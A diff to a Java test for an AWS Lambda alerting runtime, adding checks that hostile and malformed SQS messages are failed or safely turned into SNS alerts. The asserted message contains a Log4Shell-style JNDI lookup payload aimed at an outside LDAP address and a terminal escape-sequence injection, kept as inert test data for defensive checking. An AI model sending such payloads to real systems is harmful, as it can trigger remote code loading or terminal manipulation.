@@ -129,6 +129,19 @@ class LambdaRuntimeTest {
         assertThat(SnsRequests.attributes(SnsRequests.form(all.get(1).getBodyAsString())))
                 .containsEntry("operation", "String:DeleteSecurityGroup").containsEntry("severity", "String:high");
 
+        // Hostile and malformed messages fail on their own; the hostile-but-valid event is a new critical alert.
+        RuntimeApiStub.Answer hostile = runtimeApi.invoke(Events.bytes(Events.SQS_HOSTILE), 30_000).get(45, TimeUnit.SECONDS);
+        assertThat(hostile.error()).as(log()).isFalse();
+        List<String> failed = new java.util.ArrayList<>();
+        MAPPER.readTree(hostile.body()).path("batchItemFailures").forEach(f -> failed.add(f.path("itemIdentifier").asText()));
+        assertThat(failed).containsExactlyInAnyOrder("a1000000-0000-4000-8000-000000000002", "a1000000-0000-4000-8000-000000000003",
+                "a1000000-0000-4000-8000-000000000004", "a1000000-0000-4000-8000-000000000005");
+        List<LoggedRequest> afterHostile = aws.findAll(postRequestedFor(urlEqualTo("/")).withRequestBody(containing("Action=Publish")));
+        assertThat(afterHostile).hasSize(3);
+        Map<String, String> hostileForm = SnsRequests.form(afterHostile.get(2).getBodyAsString());
+        assertThat(hostileForm.get("Subject")).matches("[\\x20-\\x7e]{1,99}");
+        assertThat(hostileForm.get("Message")).contains("\\u001B]0;pwned\\u0007").contains("${jndi:ldap://203.0.113.66/a}");
+
         // The Teams URL was fetched once, by reference, and never written to the log.
         assertThat(aws.findAll(postRequestedFor(urlEqualTo("/"))
                 .withHeader("X-Amz-Target", equalTo("secretsmanager.GetSecretValue")))).hasSize(1);
